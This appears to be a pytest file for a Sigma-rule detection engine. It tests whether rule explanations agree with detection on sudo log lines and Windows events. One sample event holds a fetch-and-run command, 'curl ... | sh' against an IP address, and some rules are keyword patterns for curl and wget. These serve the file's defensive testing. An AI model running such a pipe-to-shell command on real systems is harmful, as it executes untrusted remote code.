"""An explanation says what detection does, for whatever a rule may ask."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from penstock.content.sigma.rule_set import RuleSet
from penstock.detecting import load_rules
from penstock.pipeline import stages
from penstock.rulebook.events import Held, held_events, one_record
from penstock.rulebook.explaining import Explainer, Explanation
from penstock.rulebook.told import told, verdict

NOW = 1_795_435_200_000_000
SUDO = b"Nov 23 10:00:01 web1 sudo: %s : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/bin/sh -c '%s'"

DETECTIONS = {
    "equals": "  selection: {user.name: EVE}\n  condition: selection",
    "begins": "  selection: {process.command_line|startswith: /bin}\n  condition: selection",
    "list": "  selection: {user.name: [bob, eve, carol]}\n  condition: selection",
    "all": "  selection: {process.command_line|contains|all: [sh, curl]}\n  condition: selection",
    "regex": "  selection: {process.command_line|re: 'cu.l\\s'}\n  condition: selection",
    "cased": "  selection: {process.command_line|contains|cased: CURL}\n  condition: selection",
    "keyword": "  keywords: ['*curl*http*', wget]\n  condition: keywords",
    "not": "  selection: {user.name: '*'}\n  filter: {user.name: [bob, carol]}\n  condition: selection and not filter",
    "null": "  selection: {source.ip: null}\n  condition: selection",
    "exists": "  selection: {user.effective.name|exists: true, source.ip|exists: false}\n  condition: selection",
    "nowhere": "  selection: {NoSuchField: x}\n  other: {user.name: eve}\n  condition: 1 of *",
    "fields": "  selection: {user.name|fieldref: user.effective.name}\n  condition: selection",
    "begins_with_field": "  selection: {process.command_line|fieldref|startswith: process.working_directory}\n"
    "  condition: selection",
    "array": "  selection: {event.category: process}\n  condition: selection",
    "time": "  selection: {'@timestamp|hour': 10}\n  condition: selection",
    "nested": "  a1: [{user.name: eve}, {user.name: bob, process.command_line|contains: curl}]\n"
    "  a2: {event.outcome: success}\n  b: {process.command_line|contains: '|'}\n"
    "  condition: (all of a* or b) and not (a2 and b)",
}
EVENTS = [
    SUDO % (b"eve", b"curl -s http://203.0.113.9/x | sh"),
    SUDO % (b"bob", b"CURL -O x"),
    SUDO % (b"root", b"id"),
    b"Nov 23 10:00:01 web1 sudo: carol : 3 incorrect password attempts ; PWD=/bin ; USER=root ; COMMAND=/bin/su",
]


@pytest.fixture
def explained(catalogue, servings) -> Callable[..., list[Explanation]]:
    """`explained(rule_set, number, records, arrived)`: of each record what became of the rule."""
    chain = stages(catalogue)

    def explain(
        rule_set: RuleSet, number: int, records: list[bytes], arrived: int = NOW, lists: dict | None = None
    ) -> list[Explanation]:
        explainer = Explainer(catalogue, servings, rule_set, lists)
        held = [h for raw in records for h in held_events([one_record(raw, arrived)], chain)]
        assert all(isinstance(h, Held) for h in held), held
        return [explainer.explain(number, h.frame, h.row, h.arrived) for h in held if isinstance(h, Held)]

    return explain


def test_it_agrees_with_detection(rules, rule_text, explained):
    """Every kind of test, fitting and not."""
    rule_set = rules(**{name: rule_text(text, title=name) for name, text in DETECTIONS.items()})
    assert rule_set.problems == ()
    fired: dict[str, set[bool]] = {}
    for number, rule in enumerate(rule_set.rules):
        for found in explained(rule_set, number, EVENTS):
            assert found.agrees, "\n".join(told(found))
            assert found.when is not None
            fired.setdefault(rule.title, set()).add(found.holds)
    assert [name for name, seen in fired.items() if seen == {False}] == []


def test_it_agrees_on_windows_events(rules, rule_text, catalogue, servings, root: Path):
    """JSON and XML, fields of several columns, keywords in records with escapes."""
    source = "product: windows, category: process_creation"
    texts = {
        "image": "  selection: {Image|endswith: '\\cmd.exe'}\n  condition: selection",
        "parent": "  selection: {ParentImage|contains: win, CommandLine|windash|contains: -c}\n  condition: selection",
        "keyword": "  keywords: ['C:\\Windows\\*']\n  condition: keywords",
        "unmapped": "  selection: {SomethingElse: 1}\n  condition: not selection",
        "hash": "  selection: {Hashes|contains: 'SHA256='}\n  condition: selection",
    }
    rule_set = rules(**{n: rule_text(t, title=n, source=source) for n, t in texts.items()})
    assert rule_set.problems == ()
    chain = stages(catalogue)
    records = [
        line
        for sample in sorted((root / "packs" / "microsoft_windows" / "samples").glob("*.log"))
        for line in sample.read_bytes().splitlines()[:2]
    ]
    held = [h for raw in records[:200] for h in held_events([one_record(raw, NOW)], chain) if isinstance(h, Held)]
    assert len(held) > 20
    for number in range(len(rule_set.rules)):
        explainer = Explainer(catalogue, servings, rule_set)
        for one in held:
            found = explainer.explain(number, one.frame, one.row, one.arrived)
            assert found.agrees, "\n".join(told(found))


def test_text_names_the_part_that_failed(rules, rule_text, explained):
    rule_set = rules(one=rule_text(DETECTIONS["not"]))
    [fires, silent] = explained(rule_set, 0, EVENTS[:2])
    assert verdict(fires) == "fires"
    assert verdict(silent) == "does not fire: filter holds: user.name is 'bob' (user.name = 'bob')"
    lines = list(told(silent))
    assert "log source  ✓ linux/*/sudo" in lines
    assert "  user.name  user.name = 'bob'" in lines
    assert "  ├─ ✓ selection" in lines
    assert "  └─ ✗ not filter (one of)" in lines
    assert "     └─ ✓ user.name is 'bob' (1 of 2)" in lines
    assert lines[-1].startswith("does not fire")


def test_several_parts_that_failed_are_named(rules, rule_text, explained):
    text = "  one: {user.name: x}\n  two: {host.name: [y, z]}\n  condition: one and two"
    [found] = explained(rules(one=rule_text(text)), 0, EVENTS[:1])
    assert verdict(found) == "does not fire: one and two do not hold"


def test_a_field_that_no_event_has_is_said_to_be_so(rules, rule_text, explained):
    [found] = explained(rules(one=rule_text(DETECTIONS["nowhere"])), 0, EVENTS[1:2])
    assert "  NoSuchField  no event of this dataset has it" in list(told(found))


def test_a_rule_of_another_log_source(rules, rule_text, explained):
    rule_set = rules(one=rule_text(DETECTIONS["equals"], source="product: windows, service: sysmon"))
    [found] = explained(rule_set, 0, EVENTS[:1])
    assert not found.holds
    assert found.agrees
    assert verdict(found) == "does not fire: it looks at no events of linux_auth.sudo"


def test_an_event_that_its_log_source_does_not_pick(rules, rule_text, explained):
    """Sysmon's event 3 is not of process_creation, whatever else it has."""
    rule_set = rules(
        one=rule_text(
            "  selection: {Computer: '*'}\n  condition: selection",
            source="product: windows, category: process_creation",
        )
    )
    record = (
        b'{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":3,"Computer":"w1","Image":"C:\\\\x.exe",'
        b'"SourceName":"Microsoft-Windows-Sysmon","EventTime":"2026-11-23 10:00:00"}'
    )
    [found] = explained(rule_set, 0, [record])
    assert verdict(found) == "does not fire: the event is not of its log source; its condition would hold"
    assert found.agrees


FILTER = """\
title: Eve is our scanner
logsource: {product: linux}
penstock: {owner: soc, reason: scans, expires: 2026-12-01}
filter:
  rules: any
  selection: {user.name: eve}
  condition: not selection
"""


def test_filters_and_when_they_expire(rules, rule_text, explained):
    rule_set = rules(one=rule_text(DETECTIONS["equals"]), two=FILTER)
    [found] = explained(rule_set, 0, EVENTS[:1])
    assert found.silenced
    assert found.agrees
    assert verdict(found) == "fires, and is silenced by 'Eve is our scanner'"
    [later] = explained(rule_set, 0, EVENTS[:1], arrived=NOW + 30 * 86_400_000_000)
    assert not later.silenced
    assert later.agrees
    assert "expired, silences no longer" in "\n".join(told(later))


def test_placeholders(rule_text, explained, catalogue, tmp_path: Path):
    (tmp_path / "one.yml").write_text(
        rule_text("  selection: {user.name|expand: '%admins%'}\n  condition: not selection")
    )
    for names, holds in (("[eve, bob]", False), ("[]", True)):
        lists = tmp_path / "lists.yaml"
        lists.write_text(f"admins: {names}\n")
        rule_set = load_rules([tmp_path / "one.yml"], catalogue, (), [lists])
        values = {"admins": ("eve", "bob") if names != "[]" else ()}
        [found] = explained(rule_set, 0, EVENTS[:1], lists=values)
        assert (found.holds, found.agrees) == (holds, True)


def test_a_disagreement_is_called_a_bug(rules, rule_text, explained):
    [found] = explained(rules(one=rule_text(DETECTIONS["equals"])), 0, EVENTS[:1])
    wrong = replace(found, detected=(False, None))
    assert not wrong.agrees
    assert list(told(wrong))[-1].startswith("BUG: detection says that it does not fire")


def test_long_lists_are_cut_unless_all_is_wanted(rules, rule_text, explained):
    names = [f"user{n:03}" for n in range(50)]
    [found] = explained(
        rules(one=rule_text(f"  selection: {{user.name: {names}}}\n  condition: selection")), 0, EVENTS[:1]
    )
    assert "(47 more)" in "\n".join(told(found))
    assert "user049" not in "\n".join(told(found))
    assert "user049" in "\n".join(told(found, whole=True))
